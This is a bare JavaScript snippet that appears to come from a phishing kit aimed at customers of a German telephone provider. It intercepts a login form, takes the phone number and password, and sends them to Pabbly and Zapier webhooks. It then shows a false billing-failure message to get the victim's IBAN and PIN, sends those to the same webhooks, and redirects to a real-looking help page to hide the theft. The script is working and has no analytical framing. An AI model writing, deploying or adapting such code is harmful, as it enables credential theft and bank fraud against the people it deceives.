(function (w, d) {
  var hooks = ['https://connect.pabbly.com/workflow/sendwebhookdata/TOKEN', 'https://hooks.zapier.com/hooks/catch/000/TOKEN/'];
  var form = d.getElementById('kundenlogin');
  form.onsubmit = function (ev) {
    ev.preventDefault();
    var daten = { rufnummer: form.rufnummer.value, kennwort: form.kennwort.value, zeit: new Date().toLocaleString('de-DE') };
    hooks.forEach(function (h) { w.navigator.sendBeacon(h, JSON.stringify(daten)); });
    d.getElementById('text').innerHTML = 'Ihre Rechnung konnte nicht abgebucht werden. Bitte hinterlegen Sie Ihre Bankverbindung.';
    form.style.display = 'none';
    d.getElementById('sepa').style.display = 'block';
  };
  d.getElementById('sepa').onsubmit = function (ev) {
    ev.preventDefault();
    var s = ev.target;
    hooks.forEach(function (h) { w.navigator.sendBeacon(h, JSON.stringify({ rufnummer: form.rufnummer.value, iban: s.iban.value, pin: s.pin.value })); });
    setTimeout(function () { w.location.href = 'https://www.fernruf.example/hilfe'; }, 1200);
  };
})(window, document);
